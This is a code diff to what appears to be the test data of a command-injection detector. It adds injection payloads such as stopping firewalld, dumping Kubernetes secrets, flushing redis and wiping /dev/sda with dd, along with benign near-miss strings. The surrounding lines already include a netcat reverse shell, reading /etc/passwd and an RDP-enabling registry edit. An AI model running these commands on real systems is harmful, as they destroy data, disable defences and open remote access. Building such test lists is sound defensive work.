@@ -99,6 +99,10 @@ COMMANDS = {
     "prefixes": ["x=ifconfig", "a=uname -a", "=ls -la", "=id", "a() ( ifconfig; ); a", "f() { id; }; f",
                  ";command ifconfig", "x;command -p cat /etc/passwd", "&@ipconfig /all", "&,ipconfig",
                  "|%COMSPEC% /c whoami", "& %SYSTEMROOT%\\system32\\ipconfig"],
+    # service managers and cluster / cloud clients with their subcommands after a separator; su to root; dd's
+    # operands; a word whose every letter is escaped
+    "clients": [";systemctl stop firewalld", ";service ssh stop", ";kubectl get secrets -A", "&& aws s3 ls",
+                "| redis-cli flushall", ";su root", ";dd if=/dev/zero of=/dev/sda", ";i\\f\\c\\o\\n\\f\\i\\g"],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
@@ -107,7 +111,8 @@ COMMAND_NEAR_MISSES = [
     "Smartwatch Models & More", "hp|gen|top|women", "MMB|SC|C1|MakeMyBook", "cat food", "find a store near me",
     "set up your account", "I type fast; echo chambers are bad", "2+2;+3", "notes; ip phone", "I use dotnet daily",
     "sort=uptime", "type=id", "name=cat food", "f(x) (see below)", "ask; command line", "mail a@b.com, dir",
-    "E-mail: x@y.z; @ping me", "ps: flux; ps wax", "one; ps relax", "Q&A: who are we?", "Rock & Roll",
+    "E-mail: x@y.z; @ping me", "ps: flux; ps wax", "kubectl get pods", "aws s3 ls",
+    "the service; service desk", "one; ps relax", "Q&A: who are we?", "Rock & Roll",
     "dogs & cats", "id", "dir", "type", "sort=id", "ping pong", "sleep well", "print-ready.pdf",
     "my_script.sh", "run.bat", "R&B; soul", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
     "it's a 'ls' command", "A & B | C", "Use `git status` to check", "Pay $(price) now",
